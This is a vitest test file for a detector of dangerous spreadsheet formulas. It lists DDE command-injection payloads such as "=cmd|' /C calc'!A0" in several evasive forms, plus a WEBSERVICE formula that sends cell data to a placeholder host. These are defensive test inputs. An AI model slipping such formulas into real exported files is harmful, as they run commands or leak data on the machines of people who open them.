import * as fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { findActiveFormulas } from './index.ts'

describe('findActiveFormulas', () => {
  test.each([
    ["=cmd|' /C calc'!A0", 'cmd', ' /C calc'],
    ['a,"=cmd|\'/c x\'!A1",b', 'cmd', '/c x'],
    ['1\t+cmd|"/c x"!A1', 'cmd', '/c x'],
    ['"=cmd|""/c calc""!A0"', 'cmd', '/c calc'],
    ["=  'cmd'|'/c x'!A1", 'cmd', '/c x'],
    ['=RSS|7203.T!現在値', 'RSS', '7203.T'],
    ["=IF(A1;cmd|'/c x'!A1;0)", 'cmd', '/c x'],
  ])('%j', (line, service, topic) => {
    expect(findActiveFormulas(`x\n${line}\ny`)).toMatchObject([{ line: 2, dde: { service, topic } }])
  })

  test('functions that go to the network', () => {
    expect(findActiveFormulas('1,=WEBSERVICE("http://www.example.com/"&A1)')).toMatchObject([{ dde: undefined }])
  })

  test.each(['-090-1234-5678', '+81|3!', '- a | b!c', '-1,a|b!c', '@name|x!', '=A1|B1', 'x =cmd|', "メモ cmd|'/c'!A"])(
    '%j is none',
    (line) => {
      expect(findActiveFormulas(line)).toEqual([])
    },
  )

  test('is linear', () => {
    const started = performance.now()
    for (const unit of ['-a|', "=a'", '=a ', "='a|'b", ',=', "|'", '(', ',-(a|'])
      findActiveFormulas(`=${unit.repeat(6_000)}|\n`.repeat(100))
    // Quadratic reading of any of these takes minutes.
    expect(performance.now() - started).toBeLessThan(10_000)
  })

  test('any text is answered', () => {
    fc.assert(fc.property(fc.string(), (text) => Array.isArray(findActiveFormulas(text))))
  })
})
